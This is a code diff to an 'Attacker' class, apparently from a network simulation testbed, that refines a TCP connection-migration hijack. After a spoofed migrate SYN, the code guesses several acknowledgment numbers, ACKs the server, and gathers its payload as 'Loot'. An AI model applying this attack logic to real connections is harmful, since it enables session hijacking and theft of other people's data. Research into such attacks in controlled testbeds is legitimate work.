@@ -15,6 +15,7 @@ from topologies.nodes import Host
 _ALL_PROTOCOLS = 3
 _BUFFER = 16 << 20
 _OUTGOING = 4
+_STEP, _GUESSES = 1448, 8
 _SO_RCVBUFFORCE = 33
 
 
@@ -89,7 +90,7 @@ class Attacker:
         """The rest of it, once the Migrate SYN has left."""
         answer: Seen | None = None
         data = b""
-        next_byte = 0
+        next_byte: int | None = None
         for seen in hear(patience):
             if seen.target != own or seen.source != server:
                 continue
@@ -97,11 +98,13 @@ class Attacker:
                 return Loot(answer, answer is None, data)
             if seen.flags & (SYN | ACK) == SYN | ACK:
                 answer = seen
-                next_byte = seen.seq + 1
-            elif answer and seen.payload and seen.seq == next_byte % (1 << 32):
+                # The victim may have acknowledged more meanwhile, and the attacker does not know how much: it tries.
+                guesses = [seen.seq + 1 + step * _STEP for step in range(_GUESSES)]
+                self.send([segment(own, server, ACK, answer.ack, guess, window=32000) for guess in guesses])
+            elif answer and seen.payload and next_byte in (None, seen.seq):
                 data += seen.payload
-                next_byte += len(seen.payload)
-            if answer:
+                next_byte = (seen.seq + len(seen.payload)) % (1 << 32)
+            if answer and next_byte is not None:
                 self.send([segment(own, server, ACK, answer.ack, next_byte, window=32000)])
             if len(data) >= wanted:
                 break
